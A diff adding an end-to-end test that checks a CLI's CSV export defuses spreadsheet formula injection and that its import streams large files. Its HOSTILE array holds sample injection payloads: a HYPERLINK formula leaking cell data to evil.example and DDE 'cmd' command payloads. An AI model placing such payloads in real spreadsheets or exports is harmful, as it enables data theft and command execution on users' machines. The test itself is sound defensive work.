@@ -1,0 +1,84 @@
+/**
+ * `propgraph values export` and `values import` end to end (issue #46 items 8 and 16):
+ * the built CLI as a subprocess against a real server.
+ * - Values a spreadsheet would run as formulas are exported with a `'` before them
+ *   (OWASP's advice), and the exported file imports back to the same values.
+ * - An import reads its file as a stream: a file far larger than the CLI's heap is
+ *   refused, within that heap, once it has more rows than one import takes; the
+ *   whole-file reader ran out of memory on it.
+ */
+import { rmSync } from 'node:fs';
+import { formatCsvRecord, parseCsv } from '../../src/cli/files/csvFile.js';
+import { createDatasets, setProperties } from '../support/fixtures.js';
+import { enc, http } from '../support/http.js';
+import { searchAvailableForTests, startTestServer, type TestServer } from '../support/server.js';
+import { ensureCliBuilt, runCli, tempDir, writeFile, type CliResult } from './cliRunner.js';
+
+let server: TestServer;
+let home: string;
+
+const NOTES = 'urn:li:structuredProperty:io.csv.notes';
+const dataset = (name: string) => `urn:li:dataset:(urn:li:dataPlatform:hive,csv.${name},PROD)`;
+const cli = (args: string[], env?: Record<string, string>): Promise<CliResult> => runCli(args, { home, server: server.url, ...(env ? { env } : {}) });
+// A value starting with a tab is defused too (test/unit/csvFile.test.ts), but the server's import trims values, so it cannot come back as it was.
+const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|...', "'quoted already", 'plain'];
+
+async function notesOf(urn: string): Promise<unknown> {
+  const res = await http(server.url, 'GET', `/openapi/v3/entity/dataset/${enc(urn)}/structuredProperties`);
+  return (res.body?.structuredProperties?.value?.properties ?? []).find((p: { propertyUrn: string }) => p.propertyUrn === NOTES)?.values;
+}
+
+(searchAvailableForTests() ? describe : describe.skip)('values as CSV', () => {
+  beforeAll(async () => {
+    await ensureCliBuilt();
+    server = await startTestServer({ search: true });
+    home = tempDir();
+    for (const [id, cardinality] of [['io.csv.notes', 'SINGLE'], ['io.csv.wide', 'MULTIPLE']]) {
+      const res = await http(server.url, 'POST', `/openapi/v3/entity/structuredProperty/${enc(`urn:li:structuredProperty:${id}`)}/propertyDefinition`, {
+        json: { value: { qualifiedName: id, valueType: 'urn:li:dataType:datahub.string', entityTypes: ['urn:li:entityType:datahub.dataset'], cardinality } },
+      });
+      expect(res.status).toBe(200);
+    }
+    await createDatasets(server.url, HOSTILE.map((_, i) => dataset(`h${i}`)));
+    for (const [i, value] of HOSTILE.entries()) expect((await setProperties(server.url, dataset(`h${i}`), [{ propertyUrn: NOTES, values: [{ string: value }] }])).status).toBe(200);
+  }, 180_000);
+
+  afterAll(async () => {
+    await server?.stop();
+    if (home) rmSync(home, { recursive: true, force: true });
+  });
+
+  test("an export defuses every cell a spreadsheet would run, and imports back to the same values", async () => {
+    const exported = await cli(['values', 'export', '--property', 'io.csv.notes']);
+    expect(exported.code).toBe(0);
+    const records = parseCsv(exported.stdout, 'export.csv');
+    expect(records).toHaveLength(HOSTILE.length + 1);
+    // Read as a spreadsheet reads it: no cell starts a formula (a quoted one neither, once unquoted).
+    expect(exported.stdout).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
+    expect(exported.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")"`);
+    expect(exported.stdout).toContain("'+cmd\\|' /C calc'!A0");
+    expect(exported.stdout).toContain("''quoted already");
+    const file = writeFile(home, 'notes.csv', exported.stdout);
+    const imported = await cli(['values', 'import', '-f', file]);
+    expect(imported.stderr).toBe('');
+    expect(imported.stdout).toContain(`0 entities updated, ${HOSTILE.length} unchanged, in one transaction`);
+    for (const [i, value] of HOSTILE.entries()) expect(await notesOf(dataset(`h${i}`))).toEqual([{ string: value }]);
+  }, 120_000);
+
+  test('a file that a spreadsheet saved with a defused cell sets the value without the quote mark', async () => {
+    const file = writeFile(home, 'edited.csv', `urn,io.csv.notes\n"${dataset('h5')}",'=1+1\n`);
+    const imported = await cli(['values', 'import', '-f', file]);
+    expect(imported.code).toBe(0);
+    expect(await notesOf(dataset('h5'))).toEqual([{ string: '=1+1' }]);
+  }, 60_000);
+
+  test('an import reads its file as a stream: a file many times the size of its heap is refused once it has more rows than an import takes', async () => {
+    // 40,000 rows of about 500 characters: 20 MB, four times the rows one import takes.
+    const rows = Array.from({ length: 40_000 }, (_, i) => formatCsvRecord([dataset(`big${i}`), `${i}-${'x'.repeat(400)}`]));
+    const file = writeFile(home, 'big.csv', `urn,io.csv.notes\n${rows.join('\n')}\n`);
+    const checked = await cli(['values', 'import', '-f', file, '--dry-run'], { NODE_OPTIONS: '--max-old-space-size=48' });
+    expect(checked.stderr).toMatch(/big\.csv:\d+: the file holds more than 10000 rows, the most one import takes \(one server transaction\); split it/);
+    expect(checked.code).toBe(2);
+  }, 120_000);
+
+});
